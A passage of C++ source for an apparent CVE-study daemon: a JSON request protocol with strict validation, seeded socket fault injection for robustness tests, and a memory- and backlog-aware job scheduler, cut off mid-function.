//   {"op":"ping"}
//   {"op":"submit","seed":7,"scale":0.01,"threads":1,
//    "deadline_ms":5000,"detach":false}
//   {"op":"query","job":"j1"}
//   {"op":"cancel","job":"j1"}
//   {"op":"stats"}
//   {"op":"store_query","table":"events","cve":"CVE-2021-44228",
//    "begin":"2021-12-10","end":"2021-12-17","src":"203.0.113.9",
//    "sid":21003,"run":"<runkey hex>","limit":100,"mode":"index"}
//   {"op":"store_plan","table":"events","cve":"CVE-2021-44228",...}
//   {"op":"store_stat"}
//   {"op":"store_scrub","repair":false}
//
// store_query predicates are all optional and conjunctive; "begin"/"end"
// accept a YYYY-MM-DD date or an integer unix timestamp (half-open
// window), "src" a dotted quad or an integer, "run" a lowercase-hex run
// key.  The reply carries the match count, the SHA-256 digest of the
// full canonical match set, the executed plan label, and the first
// `limit` rows -- byte-identical whether served by index scan or
// brute-force scan (DESIGN.md §13).  store_plan takes the same predicate
// fields and returns the planner's verdict -- chosen shape plus every
// applicable probe's measured cardinality -- without executing anything.
//
// Replies always carry "ok" (true/false) and echo "op"; failures carry a
// structured "error" code -- crucially "overloaded" with a "retry_after_ms"
// hint when admission control rejects a submit -- so a client never has to
// scrape prose.  Parsing is strict and bounded: unknown ops, missing
// fields, out-of-range values, and non-object frames all yield a
// structured bad_request/parse_error reply, never a crash or a guess.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>

#include "store/query.h"
#include "util/json.h"

namespace cvewb::daemon {

/// Bounds on what a single request may ask for.  Admission control decides
/// whether the daemon *wants* the work; these decide whether the request
/// is even well-formed.
struct ProtocolLimits {
  double max_scale = 1.0;
  int max_threads = 16;
  std::int64_t max_deadline_ms = 3'600'000;  // 1 hour
  /// Cap on store_query "limit": rows materialized into one reply frame.
  /// The result digest always covers the full match set regardless.
  std::int64_t max_store_rows = 1024;
};

enum class RequestOp : std::uint8_t {
  kPing,
  kSubmit,
  kQuery,
  kCancel,
  kStats,
  kStoreQuery,  // index scan over the persistent session store
  kStorePlan,   // planner verdict for a store query, without executing
  kStoreStat,   // store row/run/WAL/snapshot counters
  kStoreScrub,  // integrity sweep over every store file; optional repair
};

const char* request_op_name(RequestOp op);

/// A validated request.
struct Request {
  RequestOp op = RequestOp::kPing;
  // submit
  std::uint64_t seed = 7;
  double scale = 0.01;
  int threads = 1;
  std::int64_t deadline_ms = 0;  // 0 = no deadline
  bool detach = false;           // survive client disconnect
  // query / cancel
  std::string job_id;
  // store_query: validated predicate set (see store/query.h).  "brute"
  // selects the linear-scan executor -- exposed so clients can check the
  // byte-identity contract end-to-end.
  store::Query store_query;
  bool store_brute = false;
  // store_scrub: when true, quarantine damaged files and rebuild from the
  // surviving WAL/archive chain instead of merely reporting damage.
  bool store_repair = false;
};

/// Outcome of parsing one frame: either a request or a ready-to-send
/// structured error reply.
struct ParsedRequest {
  std::optional<Request> request;
  util::Json error_reply;  // meaningful iff !request
};

/// Parse and validate one newline-stripped frame against `limits`.
ParsedRequest parse_request(std::string_view line, const ProtocolLimits& limits);

/// Structured error frame: {"ok":false,"error":code,"detail":detail}.
util::Json error_reply(std::string_view code, std::string_view detail);

/// Serialize a reply to its wire form (compact JSON + '\n').
std::string encode_frame(const util::Json& reply);

}  // namespace cvewb::daemon
