#include "daemon/socket_fault.h"

#include <cerrno>
#include <sys/socket.h>

#include "obs/observability.h"
#include "util/rng.h"

namespace cvewb::daemon {

SocketIo::SocketIo(SocketFaultPlan plan, obs::Observability* observability)
    : plan_(plan), observability_(observability) {}

FaultDecision SocketIo::plan_decision(const SocketFaultPlan& plan, std::uint64_t op_class,
                                      std::uint64_t op_index) {
  FaultDecision decision;
  if (!plan.any()) return decision;
  // One RNG stream per (plan seed, op class, op index): the decision for
  // read #17 is fixed at plan construction, independent of writes, timing,
  // or how many connections interleave.
  util::Rng rng(util::stream_seed(plan.seed ^ 0x50c7e7ULL, op_class, op_index));
  if (rng.chance(plan.reset_rate)) {
    decision.reset = true;
    return decision;
  }
  if (rng.chance(plan.stall_rate)) {
    decision.stall = true;
    return decision;
  }
  const double short_rate =
      op_class == kReadOp ? plan.short_read_rate : plan.short_write_rate;
  if (rng.chance(short_rate)) {
    decision.short_cap = 1 + static_cast<std::size_t>(rng.uniform_u64(7));  // 1..7 bytes
  }
  return decision;
}

FaultDecision SocketIo::next_decision(std::uint64_t op_class) {
  std::lock_guard<std::mutex> lock(mutex_);
  const std::uint64_t index = op_counter_[op_class]++;
  if (op_class == kReadOp) {
    ++stats_.reads;
  } else {
    ++stats_.writes;
  }
  const FaultDecision decision = plan_decision(plan_, op_class, index);
  if (decision.reset) ++stats_.injected_resets;
  if (decision.stall) ++stats_.injected_stalls;
  if (decision.short_cap != 0) {
    if (op_class == kReadOp) {
      ++stats_.injected_short_reads;
    } else {
      ++stats_.injected_short_writes;
    }
  }
  return decision;
}

IoResult SocketIo::recv_some(int fd, char* buf, std::size_t cap) {
  const FaultDecision decision = next_decision(kReadOp);
  if (decision.reset) {
    obs::count(observability_, "daemon/fault_resets");
    return {IoStatus::kReset, 0};
  }
  if (decision.stall) {
    obs::count(observability_, "daemon/fault_stalls");
    return {IoStatus::kWouldBlock, 0};
  }
  if (decision.short_cap != 0 && decision.short_cap < cap) {
    obs::count(observability_, "daemon/fault_short_reads");
    cap = decision.short_cap;
  }
  const ssize_t n = ::recv(fd, buf, cap, 0);
  if (n > 0) return {IoStatus::kOk, static_cast<std::size_t>(n)};
  if (n == 0) return {IoStatus::kClosed, 0};
  if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) {
    return {IoStatus::kWouldBlock, 0};
  }
  return {IoStatus::kReset, 0};
}

IoResult SocketIo::send_some(int fd, const char* data, std::size_t len) {
  const FaultDecision decision = next_decision(kWriteOp);
  if (decision.reset) {
    obs::count(observability_, "daemon/fault_resets");
    return {IoStatus::kReset, 0};
  }
  if (decision.stall) {
    obs::count(observability_, "daemon/fault_stalls");
    return {IoStatus::kWouldBlock, 0};
  }
  if (decision.short_cap != 0 && decision.short_cap < len) {
    obs::count(observability_, "daemon/fault_short_writes");
    len = decision.short_cap;
  }
  // MSG_NOSIGNAL: a peer that vanished mid-write must surface as an error
  // return, never a process-wide SIGPIPE.
  const ssize_t n = ::send(fd, data, len, MSG_NOSIGNAL);
  if (n >= 0) return {IoStatus::kOk, static_cast<std::size_t>(n)};
  if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) {
    return {IoStatus::kWouldBlock, 0};
  }
  return {IoStatus::kReset, 0};
}

SocketFaultStats SocketIo::stats() const {
  std::lock_guard<std::mutex> lock(mutex_);
  return stats_;
}

}  // namespace cvewb::daemon
