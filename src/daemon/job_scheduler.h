// JobScheduler: admission-controlled study execution for the daemon.
//
// The scheduler is the robustness boundary between an unbounded client
// population and a bounded machine.  Every submission is weighed (cost
// scales with event_scale) against a bounded backlog: work that fits is
// queued FIFO and executed by a fixed worker pool through the PR 5
// RunSupervisor (journaled, cancellable, resumable); work that does not
// fit is rejected *immediately* with a structured `overloaded` verdict and
// a Retry-After hint -- a million light clients can slam the front door
// all day without starving the one heavy study already running, and
// without the daemon ever buffering unbounded state.
//
// Each job owns a util::CancelToken threaded into its study: a per-request
// deadline arms the token at admission (so queue time counts against the
// budget), a client disconnect or explicit cancel fires it, and graceful
// drain fires every token at once -- in all cases the backing study
// unwinds at its next cancellation point with its checkpoints journaled.
// Zero jobs outlive their reason to exist.
//
// Everything observable is exported through obs::MetricsRegistry under
// daemon/*: backlog depth, rejects, deadline expiries, per-state job
// counters, queue/run latency histograms.
#pragma once

#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "util/cancel.h"
#include "util/json.h"
#include "util/retry.h"

namespace cvewb::obs {
struct Observability;
}
namespace cvewb::store {
class Store;
}

namespace cvewb::daemon {

struct SchedulerConfig {
  /// Worker threads executing admitted jobs.  0 is a legitimate (test)
  /// configuration: jobs queue but never run, which makes admission
  /// arithmetic exactly observable.
  int workers = 2;
  /// Backlog capacity in weight units; admission rejects any submit whose
  /// weight would push the *queued* total past this.
  int backlog_capacity = 8;
  /// Weight quantum: a job's weight is ceil(event_scale / weight_scale_unit),
  /// at least 1 -- a heavy study consumes proportionally more backlog, so
  /// admission is cost-based, not count-based.
  double weight_scale_unit = 0.01;
  /// Retry-After hint per unit of queued weight at rejection time.
  std::chrono::milliseconds retry_after_per_weight{50};
  /// Memory-admission dimension: projected working-set bytes per weight
  /// unit.  When non-zero, a submit whose projected footprint
  /// (weight * bytes_per_weight) exceeds the process MemoryBudget's
  /// remaining hard-watermark headroom is rejected with the same
  /// structured `overloaded` + retry_after verdict as a full backlog --
  /// admission is bounded by memory, not just queue depth.  Independent of
  /// this knob, detached jobs (which nobody can cancel by disconnecting)
  /// are refused outright while the budget reports soft pressure.
  std::uint64_t bytes_per_weight = 0;
  /// Default per-job deadline when the request names none (0 = unlimited).
  std::chrono::milliseconds default_deadline{0};
  /// Shared stage-cache directory ("" = caching and journaling off).
  /// Concurrent jobs share it: identical studies dedup to one compute via
  /// content addressing, and interrupted jobs leave resumable journals.
  std::string cache_dir;
  /// I/O retry policy forwarded to every study.
  util::RetryPolicy io_retry;
  /// Shared persistent session store (null = store ingestion off).  Every
  /// completed job ingests its result through this ONE internally-
  /// synchronized handle -- workers never open per-job handles, so
  /// concurrent completions serialize on the store's writer lock instead
  /// of racing on WAL sequence numbers.  Ingest failures are metrics
  /// (daemon/store_ingest_failed), never job failures.  Owned by the
  /// caller (the Server), which must outlive the scheduler.
  store::Store* store = nullptr;
};

enum class JobState : std::uint8_t {
  kQueued,
  kRunning,
  kComplete,
  kCancelled,  // client cancel, disconnect, or drain
  kExpired,    // per-request deadline fired
  kFailed,
};

const char* job_state_name(JobState state);

/// One study submission.
struct JobSpec {
  std::uint64_t seed = 7;
  double scale = 0.01;
  int threads = 1;
  std::chrono::milliseconds deadline{0};  // 0 = scheduler default
  /// Owning connection (0 = none); a disconnect cancels all non-detached
  /// jobs it owns.
  std::uint64_t owner = 0;
  bool detach = false;
};

/// Admission verdict.
struct AdmitResult {
  bool admitted = false;
  std::string job_id;                       // set when admitted
  std::string reason;                       // "overloaded" | "draining" when rejected
  std::chrono::milliseconds retry_after{0};  // backoff hint when rejected
  int backlog_weight = 0;                   // queued weight after (or at) the decision
  int capacity = 0;
};

/// Snapshot of one job for query replies.
struct JobStatus {
  std::string id;
  JobState state = JobState::kQueued;
  std::uint64_t seed = 0;
  double scale = 0;
  std::string stage;        // last completed checkpoint while running
  std::string digest;       // set when complete
  util::Json summary;       // small result summary when complete
  std::string message;      // failure / cancellation detail
  std::string error_class;  // pipeline taxonomy name when failed
  bool resumable = false;
  std::string resume_key;
  std::uint64_t wait_us = 0;  // admission -> start
  std::uint64_t run_us = 0;   // start -> terminal
};

/// Coherent scheduler-wide counters (the same numbers exported as
/// daemon/* metrics, readable without an Observability attached).
struct SchedulerStats {
  int backlog_weight = 0;
  std::size_t queued = 0;
  std::size_t running = 0;
  std::uint64_t submitted = 0;
  std::uint64_t rejected = 0;
  std::uint64_t completed = 0;
  std::uint64_t cancelled = 0;
  std::uint64_t expired = 0;
  std::uint64_t failed = 0;
};

class JobScheduler {
 public:
  explicit JobScheduler(SchedulerConfig config, obs::Observability* observability = nullptr);
  ~JobScheduler();

  JobScheduler(const JobScheduler&) = delete;
  JobScheduler& operator=(const JobScheduler&) = delete;

  /// Admission control: weigh the job against the bounded backlog.  Never
  /// blocks; the rejection path is O(1) so overload cannot slow the
  /// front door down.
  AdmitResult submit(const JobSpec& spec);

  /// Status snapshot; nullopt for an unknown id.  Lazily finalizes a
  /// queued job whose deadline already fired.
  std::optional<JobStatus> query(const std::string& job_id);

  /// Cancel one job.  Queued jobs finalize immediately; running jobs have
  /// their token fired and finalize when the study unwinds (checkpointed).
  /// False when the id is unknown or already terminal.
  bool cancel(const std::string& job_id);

  /// Disconnect cleanup: cancel every non-detached, non-terminal job the
  /// owner submitted.  Returns how many were cancelled.
  std::size_t cancel_owner(std::uint64_t owner);

  SchedulerStats stats() const;
  bool draining() const;

  /// Graceful drain: reject new work, cancel the queue, fire every running
  /// job's token (each study checkpoints via its journal and unwinds),
  /// then join the workers.  Idempotent.
  void drain();

 private:
  struct Job;

  void worker_loop();
  void run_job(const std::shared_ptr<Job>& job);
  void finalize_locked(const std::shared_ptr<Job>& job, JobState state, std::string message);
  void release_backlog_locked(const std::shared_ptr<Job>& job);
  int weight_of(double scale) const;

  SchedulerConfig config_;
  obs::Observability* observability_;

  mutable std::mutex mutex_;
  std::condition_variable cv_;
  std::deque<std::shared_ptr<Job>> queue_;
  std::map<std::string, std::shared_ptr<Job>> jobs_;
  int backlog_weight_ = 0;
  std::size_t running_ = 0;
  std::uint64_t next_job_number_ = 0;
  bool draining_ = false;
  SchedulerStats totals_;  // guarded by mutex_
  std::vector<std::thread> workers_;
};

}  // namespace cvewb::daemon
