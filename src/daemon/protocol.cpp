#include "daemon/protocol.h"

#include <cmath>

namespace cvewb::daemon {

namespace {

/// Numeric field helpers: JSON numbers arrive double- or int64-backed;
/// requests need exact non-negative integers and finite doubles.
std::optional<std::int64_t> int_field(const util::Json& object, std::string_view key) {
  const util::Json* value = object.find(key);
  if (value == nullptr || value->type() != util::Json::Type::kNumber) return std::nullopt;
  if (value->is_integer()) return value->as_int64();
  const double d = value->as_number();
  if (!std::isfinite(d) || d != std::floor(d)) return std::nullopt;
  return static_cast<std::int64_t>(d);
}

std::optional<double> number_field(const util::Json& object, std::string_view key) {
  const util::Json* value = object.find(key);
  if (value == nullptr || value->type() != util::Json::Type::kNumber) return std::nullopt;
  const double d = value->as_number();
  if (!std::isfinite(d)) return std::nullopt;
  return d;
}

ParsedRequest bad_request(std::string_view detail) {
  ParsedRequest out;
  out.error_reply = error_reply("bad_request", detail);
  return out;
}

}  // namespace

const char* request_op_name(RequestOp op) {
  switch (op) {
    case RequestOp::kPing:
      return "ping";
    case RequestOp::kSubmit:
      return "submit";
    case RequestOp::kQuery:
      return "query";
    case RequestOp::kCancel:
      return "cancel";
    case RequestOp::kStats:
      return "stats";
  }
  return "unknown";
}

util::Json error_reply(std::string_view code, std::string_view detail) {
  util::Json reply;
  reply.set("ok", util::Json(false));
  reply.set("error", util::Json(std::string(code)));
  if (!detail.empty()) reply.set("detail", util::Json(std::string(detail)));
  return reply;
}

std::string encode_frame(const util::Json& reply) { return reply.dump() + "\n"; }

ParsedRequest parse_request(std::string_view line, const ProtocolLimits& limits) {
  std::string parse_error;
  const auto doc = util::parse_json(line, parse_error);
  if (!doc) {
    ParsedRequest out;
    out.error_reply = error_reply("parse_error", parse_error);
    return out;
  }
  if (doc->type() != util::Json::Type::kObject) return bad_request("frame is not an object");
  const util::Json* op = doc->find("op");
  if (op == nullptr || op->type() != util::Json::Type::kString) {
    return bad_request("missing op");
  }

  Request request;
  const std::string& name = op->as_string();
  if (name == "ping") {
    request.op = RequestOp::kPing;
  } else if (name == "stats") {
    request.op = RequestOp::kStats;
  } else if (name == "submit") {
    request.op = RequestOp::kSubmit;
    if (const auto seed = int_field(*doc, "seed")) {
      if (*seed < 0) return bad_request("seed must be non-negative");
      request.seed = static_cast<std::uint64_t>(*seed);
    } else if (doc->find("seed") != nullptr) {
      return bad_request("seed must be an integer");
    }
    if (const auto scale = number_field(*doc, "scale")) {
      if (*scale <= 0 || *scale > limits.max_scale) {
        return bad_request("scale out of range (0, " + std::to_string(limits.max_scale) + "]");
      }
      request.scale = *scale;
    } else if (doc->find("scale") != nullptr) {
      return bad_request("scale must be a finite number");
    }
    if (const auto threads = int_field(*doc, "threads")) {
      if (*threads < 1 || *threads > limits.max_threads) {
        return bad_request("threads out of range [1, " + std::to_string(limits.max_threads) +
                           "]");
      }
      request.threads = static_cast<int>(*threads);
    } else if (doc->find("threads") != nullptr) {
      return bad_request("threads must be an integer");
    }
    if (const auto deadline = int_field(*doc, "deadline_ms")) {
      if (*deadline < 0 || *deadline > limits.max_deadline_ms) {
        return bad_request("deadline_ms out of range [0, " +
                           std::to_string(limits.max_deadline_ms) + "]");
      }
      request.deadline_ms = *deadline;
    } else if (doc->find("deadline_ms") != nullptr) {
      return bad_request("deadline_ms must be an integer");
    }
    if (const util::Json* detach = doc->find("detach")) {
      if (detach->type() != util::Json::Type::kBool) {
        return bad_request("detach must be a boolean");
      }
      request.detach = detach->as_bool();
    }
  } else if (name == "query" || name == "cancel") {
    request.op = name == "query" ? RequestOp::kQuery : RequestOp::kCancel;
    const util::Json* job = doc->find("job");
    if (job == nullptr || job->type() != util::Json::Type::kString ||
        job->as_string().empty()) {
      return bad_request("missing job id");
    }
    if (job->as_string().size() > 64) return bad_request("job id too long");
    request.job_id = job->as_string();
  } else {
    return bad_request("unknown op '" + name + "'");
  }

  ParsedRequest out;
  out.request = std::move(request);
  return out;
}

}  // namespace cvewb::daemon
