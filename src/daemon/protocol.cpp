#include "daemon/protocol.h"

#include <algorithm>
#include <cmath>

#include "net/ipv4.h"
#include "util/datetime.h"

namespace cvewb::daemon {

namespace {

/// Numeric field helpers: JSON numbers arrive double- or int64-backed;
/// requests need exact non-negative integers and finite doubles.
std::optional<std::int64_t> int_field(const util::Json& object, std::string_view key) {
  const util::Json* value = object.find(key);
  if (value == nullptr || value->type() != util::Json::Type::kNumber) return std::nullopt;
  if (value->is_integer()) return value->as_int64();
  const double d = value->as_number();
  if (!std::isfinite(d) || d != std::floor(d)) return std::nullopt;
  // Integer-valued but outside int64: casting would be UB (a frame like
  // {"limit":1e300} must be a bad_request, not undefined behavior).  2^63
  // is exactly representable, so >= catches everything the cast cannot.
  if (d >= 9223372036854775808.0 || d < -9223372036854775808.0) return std::nullopt;
  return static_cast<std::int64_t>(d);
}

bool is_lower_hex(std::string_view s) {
  for (const char c : s) {
    if (!((c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'))) return false;
  }
  return !s.empty();
}

std::optional<double> number_field(const util::Json& object, std::string_view key) {
  const util::Json* value = object.find(key);
  if (value == nullptr || value->type() != util::Json::Type::kNumber) return std::nullopt;
  const double d = value->as_number();
  if (!std::isfinite(d)) return std::nullopt;
  return d;
}

ParsedRequest bad_request(std::string_view detail) {
  ParsedRequest out;
  out.error_reply = error_reply("bad_request", detail);
  return out;
}

}  // namespace

const char* request_op_name(RequestOp op) {
  switch (op) {
    case RequestOp::kPing:
      return "ping";
    case RequestOp::kSubmit:
      return "submit";
    case RequestOp::kQuery:
      return "query";
    case RequestOp::kCancel:
      return "cancel";
    case RequestOp::kStats:
      return "stats";
    case RequestOp::kStoreQuery:
      return "store_query";
    case RequestOp::kStorePlan:
      return "store_plan";
    case RequestOp::kStoreStat:
      return "store_stat";
    case RequestOp::kStoreScrub:
      return "store_scrub";
  }
  return "unknown";
}

util::Json error_reply(std::string_view code, std::string_view detail) {
  util::Json reply;
  reply.set("ok", util::Json(false));
  reply.set("error", util::Json(std::string(code)));
  if (!detail.empty()) reply.set("detail", util::Json(std::string(detail)));
  return reply;
}

std::string encode_frame(const util::Json& reply) { return reply.dump() + "\n"; }

ParsedRequest parse_request(std::string_view line, const ProtocolLimits& limits) {
  std::string parse_error;
  const auto doc = util::parse_json(line, parse_error);
  if (!doc) {
    ParsedRequest out;
    out.error_reply = error_reply("parse_error", parse_error);
    return out;
  }
  if (doc->type() != util::Json::Type::kObject) return bad_request("frame is not an object");
  const util::Json* op = doc->find("op");
  if (op == nullptr || op->type() != util::Json::Type::kString) {
    return bad_request("missing op");
  }

  Request request;
  const std::string& name = op->as_string();
  if (name == "ping") {
    request.op = RequestOp::kPing;
  } else if (name == "stats") {
    request.op = RequestOp::kStats;
  } else if (name == "submit") {
    request.op = RequestOp::kSubmit;
    if (const auto seed = int_field(*doc, "seed")) {
      if (*seed < 0) return bad_request("seed must be non-negative");
      request.seed = static_cast<std::uint64_t>(*seed);
    } else if (doc->find("seed") != nullptr) {
      return bad_request("seed must be an integer");
    }
    if (const auto scale = number_field(*doc, "scale")) {
      if (*scale <= 0 || *scale > limits.max_scale) {
        return bad_request("scale out of range (0, " + std::to_string(limits.max_scale) + "]");
      }
      request.scale = *scale;
    } else if (doc->find("scale") != nullptr) {
      return bad_request("scale must be a finite number");
    }
    if (const auto threads = int_field(*doc, "threads")) {
      if (*threads < 1 || *threads > limits.max_threads) {
        return bad_request("threads out of range [1, " + std::to_string(limits.max_threads) +
                           "]");
      }
      request.threads = static_cast<int>(*threads);
    } else if (doc->find("threads") != nullptr) {
      return bad_request("threads must be an integer");
    }
    if (const auto deadline = int_field(*doc, "deadline_ms")) {
      if (*deadline < 0 || *deadline > limits.max_deadline_ms) {
        return bad_request("deadline_ms out of range [0, " +
                           std::to_string(limits.max_deadline_ms) + "]");
      }
      request.deadline_ms = *deadline;
    } else if (doc->find("deadline_ms") != nullptr) {
      return bad_request("deadline_ms must be an integer");
    }
    if (const util::Json* detach = doc->find("detach")) {
      if (detach->type() != util::Json::Type::kBool) {
        return bad_request("detach must be a boolean");
      }
      request.detach = detach->as_bool();
    }
  } else if (name == "store_stat") {
    request.op = RequestOp::kStoreStat;
  } else if (name == "store_scrub") {
    request.op = RequestOp::kStoreScrub;
    if (const util::Json* repair = doc->find("repair")) {
      if (repair->type() != util::Json::Type::kBool) {
        return bad_request("repair must be a boolean");
      }
      request.store_repair = repair->as_bool();
    }
  } else if (name == "store_query" || name == "store_plan") {
    request.op = name == "store_query" ? RequestOp::kStoreQuery : RequestOp::kStorePlan;
    store::Query& q = request.store_query;
    if (const util::Json* table = doc->find("table")) {
      if (table->type() != util::Json::Type::kString) {
        return bad_request("table must be a string");
      }
      if (table->as_string() == "sessions") {
        q.table = store::Table::kSessions;
      } else if (table->as_string() == "events") {
        q.table = store::Table::kEvents;
      } else {
        return bad_request("table must be 'sessions' or 'events'");
      }
    }
    const auto string_field = [&](std::string_view key,
                                  std::optional<std::string>& out) -> const char* {
      const util::Json* value = doc->find(key);
      if (value == nullptr) return nullptr;
      if (value->type() != util::Json::Type::kString || value->as_string().empty() ||
          value->as_string().size() > 128) {
        return "must be a non-empty string of at most 128 bytes";
      }
      out = value->as_string();
      return nullptr;
    };
    if (const char* why = string_field("cve", q.cve)) {
      return bad_request(std::string("cve ") + why);
    }
    if (const char* why = string_field("run", q.run)) {
      return bad_request(std::string("run ") + why);
    }
    // Run keys on the wire are cache-key digests: lowercase hex only.  A
    // key that cannot exist must be rejected up front, not silently
    // matched against nothing.
    if (q.run && !is_lower_hex(*q.run)) {
      return bad_request("run must be a lowercase hex run key");
    }
    // begin/end: YYYY-MM-DD date or integer unix seconds; half-open.
    const auto time_field = [&](std::string_view key,
                                std::optional<std::int64_t>& out) -> bool {
      const util::Json* value = doc->find(key);
      if (value == nullptr) return true;
      if (value->type() == util::Json::Type::kString) {
        const auto parsed = util::parse_date(value->as_string());
        if (!parsed) return false;
        out = parsed->unix_seconds();
        return true;
      }
      if (const auto seconds = int_field(*doc, key)) {
        out = *seconds;
        return true;
      }
      return false;
    };
    if (!time_field("begin", q.time_begin)) {
      return bad_request("begin must be YYYY-MM-DD or unix seconds");
    }
    if (!time_field("end", q.time_end)) {
      return bad_request("end must be YYYY-MM-DD or unix seconds");
    }
    if (q.time_begin && q.time_end && *q.time_end < *q.time_begin) {
      return bad_request("end precedes begin");
    }
    if (const util::Json* src = doc->find("src")) {
      if (src->type() == util::Json::Type::kString) {
        const auto parsed = net::IPv4::parse(src->as_string());
        if (!parsed) return bad_request("src must be a dotted quad or integer");
        q.src = parsed->value();
      } else if (const auto raw = int_field(*doc, "src")) {
        if (*raw < 0 || *raw > 0xFFFF'FFFFll) return bad_request("src out of range");
        q.src = static_cast<std::uint32_t>(*raw);
      } else {
        return bad_request("src must be a dotted quad or integer");
      }
    }
    if (const auto sid = int_field(*doc, "sid")) {
      if (*sid < INT32_MIN || *sid > INT32_MAX) return bad_request("sid out of range");
      q.sid = static_cast<std::int32_t>(*sid);
    } else if (doc->find("sid") != nullptr) {
      return bad_request("sid must be an integer");
    }
    if (const auto limit = int_field(*doc, "limit")) {
      if (*limit < 0 || *limit > limits.max_store_rows) {
        return bad_request("limit out of range [0, " + std::to_string(limits.max_store_rows) +
                           "]");
      }
      q.limit = static_cast<std::uint64_t>(*limit);
    } else if (doc->find("limit") != nullptr) {
      return bad_request("limit must be an integer");
    } else {
      q.limit = static_cast<std::uint64_t>(std::min<std::int64_t>(64, limits.max_store_rows));
    }
    if (const util::Json* mode = doc->find("mode")) {
      if (mode->type() != util::Json::Type::kString) {
        return bad_request("mode must be a string");
      }
      if (mode->as_string() == "brute") {
        request.store_brute = true;
      } else if (mode->as_string() != "index") {
        return bad_request("mode must be 'index' or 'brute'");
      }
    }
  } else if (name == "query" || name == "cancel") {
    request.op = name == "query" ? RequestOp::kQuery : RequestOp::kCancel;
    const util::Json* job = doc->find("job");
    if (job == nullptr || job->type() != util::Json::Type::kString ||
        job->as_string().empty()) {
      return bad_request("missing job id");
    }
    if (job->as_string().size() > 64) return bad_request("job id too long");
    request.job_id = job->as_string();
  } else {
    return bad_request("unknown op '" + name + "'");
  }

  ParsedRequest out;
  out.request = std::move(request);
  return out;
}

}  // namespace cvewb::daemon
