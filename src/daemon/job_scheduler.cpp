#include "daemon/job_scheduler.h"

#include <algorithm>
#include <cmath>
#include <limits>
#include <utility>

#include "cache/key.h"
#include "cache/serialize.h"
#include "obs/observability.h"
#include "pipeline/study.h"
#include "pipeline/supervisor.h"
#include "store/store.h"
#include "util/memory_budget.h"
#include "util/sha256.h"

namespace cvewb::daemon {

using std::chrono::duration_cast;
using std::chrono::microseconds;
using std::chrono::steady_clock;

namespace {

/// Base tiers (snapshot + range segments) accumulated in the shared
/// session store before a completing worker compacts the chain back into
/// one snapshot (mirrors run_study's threshold for the single-process
/// path).  Checkpoints are incremental and run on every completion.
constexpr std::uint64_t kStoreCompactTiers = 8;

}  // namespace

const char* job_state_name(JobState state) {
  switch (state) {
    case JobState::kQueued:
      return "queued";
    case JobState::kRunning:
      return "running";
    case JobState::kComplete:
      return "complete";
    case JobState::kCancelled:
      return "cancelled";
    case JobState::kExpired:
      return "expired";
    case JobState::kFailed:
      return "failed";
  }
  return "unknown";
}

struct JobScheduler::Job {
  std::string id;
  JobSpec spec;
  int weight = 1;
  bool in_backlog = false;  // weight currently counted against capacity

  JobState state = JobState::kQueued;
  std::string stage;
  std::string digest;
  util::Json summary;
  std::string message;
  std::string error_class;
  bool resumable = false;
  std::string resume_key;

  util::CancelToken token;
  steady_clock::time_point submitted;
  steady_clock::time_point started;
  std::uint64_t wait_us = 0;
  std::uint64_t run_us = 0;
};

JobScheduler::JobScheduler(SchedulerConfig config, obs::Observability* observability)
    : config_(std::move(config)), observability_(observability) {
  const int workers = std::max(0, config_.workers);
  workers_.reserve(static_cast<std::size_t>(workers));
  for (int i = 0; i < workers; ++i) {
    workers_.emplace_back([this] { worker_loop(); });
  }
}

JobScheduler::~JobScheduler() { drain(); }

int JobScheduler::weight_of(double scale) const {
  if (config_.weight_scale_unit <= 0) return 1;
  const double units = std::ceil(scale / config_.weight_scale_unit);
  if (units <= 1) return 1;
  if (units >= static_cast<double>(std::numeric_limits<int>::max())) {
    return std::numeric_limits<int>::max();
  }
  return static_cast<int>(units);
}

AdmitResult JobScheduler::submit(const JobSpec& spec) {
  AdmitResult result;
  result.capacity = config_.backlog_capacity;
  const int weight = weight_of(spec.scale);

  std::lock_guard<std::mutex> lock(mutex_);
  ++totals_.submitted;
  obs::count(observability_, "daemon/jobs_submitted");
  result.backlog_weight = backlog_weight_;
  if (draining_) {
    result.reason = "draining";
    ++totals_.rejected;
    obs::count(observability_, "daemon/rejected_total");
    return result;
  }
  if (backlog_weight_ + weight > config_.backlog_capacity) {
    // Weight-based rejection: the hint scales with how much work is
    // already waiting, so a backed-off client swarm naturally spreads out.
    result.reason = "overloaded";
    result.retry_after = config_.retry_after_per_weight * std::max(1, backlog_weight_);
    ++totals_.rejected;
    obs::count(observability_, "daemon/rejected_total");
    return result;
  }
  // Memory dimension: work the backlog can take but the memory budget
  // cannot is still overload.  Detached jobs are refused at soft pressure
  // outright -- they outlive their connection, so under pressure they are
  // the retention the daemon sheds first; everything else is weighed as a
  // projected footprint against the remaining hard-watermark headroom.
  {
    util::MemoryBudget& budget = util::MemoryBudget::process();
    const bool pressured = budget.pressure() != util::MemoryBudget::Pressure::kNone;
    const std::uint64_t projected =
        config_.bytes_per_weight * static_cast<std::uint64_t>(weight);
    if ((spec.detach && pressured) ||
        (config_.bytes_per_weight > 0 && projected > budget.remaining())) {
      result.reason = "overloaded";
      result.retry_after = config_.retry_after_per_weight * std::max(1, backlog_weight_ + weight);
      ++totals_.rejected;
      obs::count(observability_, "daemon/rejected_total");
      obs::count(observability_, "daemon/rejected_memory");
      return result;
    }
  }

  auto job = std::make_shared<Job>();
  job->id = "j" + std::to_string(++next_job_number_);
  job->spec = spec;
  job->weight = weight;
  job->in_backlog = true;
  job->submitted = steady_clock::now();
  const auto deadline = spec.deadline.count() > 0 ? spec.deadline : config_.default_deadline;
  if (deadline.count() > 0) {
    // Armed at admission: queue time spends the same budget as run time,
    // so a job buried behind a heavy study expires instead of lingering.
    job->token.arm_deadline(job->submitted + deadline);
  }
  backlog_weight_ += weight;
  obs::gauge_set(observability_, "daemon/backlog_depth", backlog_weight_);
  jobs_.emplace(job->id, job);
  queue_.push_back(job);
  cv_.notify_one();

  result.admitted = true;
  result.job_id = job->id;
  result.backlog_weight = backlog_weight_;
  return result;
}

void JobScheduler::release_backlog_locked(const std::shared_ptr<Job>& job) {
  if (!job->in_backlog) return;
  job->in_backlog = false;
  backlog_weight_ -= job->weight;
